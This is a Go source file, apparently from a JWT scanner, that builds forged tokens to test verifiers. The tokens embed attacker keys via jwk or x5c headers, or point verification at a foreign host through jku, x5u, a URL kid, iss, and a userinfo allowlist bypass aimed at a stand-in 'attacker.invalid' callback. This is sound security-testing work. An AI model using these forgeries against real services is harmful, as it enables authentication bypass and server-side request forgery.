package attack

import (
	"cmp"
	"encoding/base64"
	"encoding/pem"
	"strings"
)

func embeddedAttacks() []Attack {
	return []Attack{
		{
			Name:  "embedded-key",
			Title: "The token brings its own key",
			Check: "jwt.embedded-key",
			Why:   "the verifier trusts a key because the token holds it (CWE-347, RFC 8725 §3.5, CVE-2018-0114)",
			forge: embeddedKeys,
		},
		{
			Name:  "key-url",
			Title: "The token says where its key is",
			Check: "jwt.key-fetch",
			Why:   "the verifier fetches keys from where the token says: forged tokens pass, and the server can be made to call any address (CWE-918, RFC 8725 §3.10)",
			forge: keyURLs,
		},
	}
}

// callbackID is the kid of the attacker's keys.
const callbackID = "wiretight-attacker"

// The paths below Material.CallbackURL that the tokens name. A listener serves
// CallbackJWKS at the first two and CallbackCert at the third.
const (
	CallbackSetPath  = "/jwks.json"
	CallbackKeyPath  = "/jwk.json"
	CallbackCertPath = "/cert.pem"
)

// CallbackJWKS returns the key set with which the tokens of key-url verify,
// under the algorithm of the genuine token.
func CallbackJWKS(alg string) []byte {
	return compactJSON(object{"keys": []object{attackerJWK(alg)}})
}

// CallbackJWK returns the same key alone.
func CallbackJWK(alg string) []byte { return compactJSON(attackerJWK(alg)) }

// CallbackCert returns a self-signed certificate of the same key, in PEM.
func CallbackCert(alg string) []byte {
	key, _ := attackerKey(alg)
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: selfSigned(key)})
}

func attackerJWK(alg string) object {
	key, alg := attackerKey(alg)
	return with(publicJWK(key.Public()), object{"alg": alg, "use": "sig", "kid": callbackID})
}

func embeddedKeys(g *genuine) []Forged {
	key, _ := attackerKey(g.alg)
	jwk := attackerJWK(g.alg)
	cert := []string{base64.StdEncoding.EncodeToString(selfSigned(key))}
	own, _ := g.header["kid"].(string)
	control := g.attackerSigned(nil) // under the same algorithm, without the key
	secret := random(64)
	all := []Forged{
		{Name: "jwk", Title: "jwk in the header", Token: g.attackerSigned(object{"jwk": jwk, "kid": callbackID})},
		{Name: "jwk-no-kid", Title: "jwk in the header, no kid", Token: g.attackerSigned(object{"jwk": with(jwk, object{"kid": nil}), "kid": nil})},
		{Name: "x5c", Title: "x5c with a self-signed certificate", Token: g.attackerSigned(object{"x5c": cert, "kid": nil})},
		{
			Name: "jwk-oct", Title: "jwk with a secret in the header, HS256",
			Token:   mac("HS256", secret, with(g.header, object{"jwk": object{"kty": "oct", "k": encode(secret)}}), g.altered()),
			Control: g.randomMAC("HS256"),
		},
	}
	if own != "" {
		all = append(all,
			Forged{Name: "jwk-own-kid", Title: "jwk in the header under the genuine kid", Token: g.attackerSigned(object{"jwk": with(jwk, object{"kid": own})})},
			Forged{Name: "x5c-own-kid", Title: "x5c with a self-signed certificate under the genuine kid", Token: g.attackerSigned(object{"x5c": cert})},
		)
	}
	for i := range all {
		all[i].Control = cmp.Or(all[i].Control, control)
	}
	return all
}

// attackerSigned signs the altered claims with the attacker's key.
func (g *genuine) attackerSigned(header object) string {
	return signed(g.alg, with(g.header, header), g.altered())
}

func keyURLs(g *genuine) []Forged {
	base := g.CallbackURL
	if base == "" {
		base = "https://attacker.invalid"
	}
	// A random part tells one scan's calls from another's.
	base = strings.TrimSuffix(base, "/") + "/" + encode(random(9))
	control := g.attackerSigned(nil)
	iss, _ := g.claims["iss"].(string)
	all := []Forged{
		{Name: "jku", Title: "jku naming a foreign key set", Token: g.attackerSigned(object{"jku": base + CallbackSetPath, "kid": callbackID})},
		{Name: "jku-key", Title: "jku naming a foreign key", Token: g.attackerSigned(object{"jku": base + CallbackKeyPath, "kid": callbackID})},
		{Name: "x5u", Title: "x5u naming a foreign certificate", Token: g.attackerSigned(object{"x5u": base + CallbackCertPath, "kid": nil})},
		{Name: "kid-url", Title: "kid that is a URL", Token: g.attackerSigned(object{"kid": base + CallbackKeyPath})},
		{Name: "iss", Title: "iss naming a foreign issuer", Token: signed(g.alg, with(g.header, object{"kid": callbackID}), with(g.altered(), object{"iss": base}))},
	}
	if host, ok := strings.CutPrefix(iss, "https://"); ok {
		// An allowlist that looks at the beginning of the URL only.
		host, _, _ = strings.Cut(host, "/")
		_, rest, _ := strings.Cut(base, "://")
		all = append(all, Forged{
			Name: "jku-userinfo", Title: "jku with the issuer's host as user name",
			Token: g.attackerSigned(object{"jku": "https://" + host + "@" + rest + CallbackSetPath, "kid": callbackID}),
		})
	}
	for i := range all {
		all[i].Control = control
	}
	return all
}
